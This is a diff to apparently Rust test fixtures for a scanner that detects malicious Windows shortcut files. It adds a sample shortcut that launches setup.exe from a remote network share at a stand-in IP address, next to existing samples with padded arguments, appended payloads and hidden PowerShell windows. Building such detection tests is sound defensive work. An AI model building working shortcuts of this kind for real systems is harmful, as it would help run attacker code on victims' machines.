@@ -162,6 +162,10 @@ fn shortcuts() -> Vec<Fixture> {
             "findings/shortcut-lnk/hit.padded-arguments.lnk",
             shortcut("%windir%\\notepad.exe", &padded),
         ),
+        (
+            "findings/shortcut-lnk/hit.remote-program.lnk",
+            shortcut("\\\\198.51.100.7\\share\\setup.exe", ""),
+        ),
         ("findings/shortcut-lnk/hit.appended-payload.lnk", appended),
         ("findings/shortcut-lnk/miss.txt", lines(text)),
         ("findings/powershell-command/hit.hidden-window.lnk", hidden),
